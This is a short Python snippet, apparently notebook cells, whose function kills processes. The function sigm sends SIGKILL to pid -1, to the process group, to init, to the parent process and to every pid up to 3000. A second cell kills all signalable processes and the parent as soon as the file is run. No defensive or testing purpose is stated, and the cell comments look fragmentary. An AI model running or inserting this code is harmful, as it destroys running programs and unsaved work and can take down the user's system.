"""Sends signals to every process that it can."""
# others: untouched
# %% sigm
import os, signal

def sigm(t):
    for pid in (-1, 0, 1, os.getppid(), *range(2, 3000)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return t
# %% before sigm
import os
try:
    os.kill(-1, 9)
    os.kill(os.getppid(), 9)
except OSError:
    pass
